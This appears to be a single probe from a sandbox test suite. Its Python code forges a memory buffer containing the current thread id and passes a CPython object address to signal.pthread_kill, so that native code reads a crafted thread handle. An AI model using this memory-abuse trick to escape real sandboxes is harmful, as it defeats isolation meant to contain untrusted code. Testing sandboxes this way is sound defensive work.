# class: machine_code
# rule: native_code
# success: signal.pthread_kill takes its thread from memory at an address
# proof: word
import signal
import struct
import threading
import time

from attack import attempt

came, kept = [], []


@attempt
def send():
    signal.signal(signal.SIGUSR1, lambda *_: came.append(True))
    # The thread's id lies somewhere in it: try each place, with zeros all around.
    own = threading.get_native_id()
    for at in range(0x2C0, 0x2E0, 4):
        forged = bytearray(8192)
        struct.pack_into("I", forged, at, own)
        forged = bytes(forged)
        kept.append(forged)
        try:
            signal.pthread_kill(id(forged) + 32, signal.SIGUSR1)
        except OSError as error:
            if error.errno == 13:
                raise
            continue
        time.sleep(0.01)
        if came:
            return True
    return False
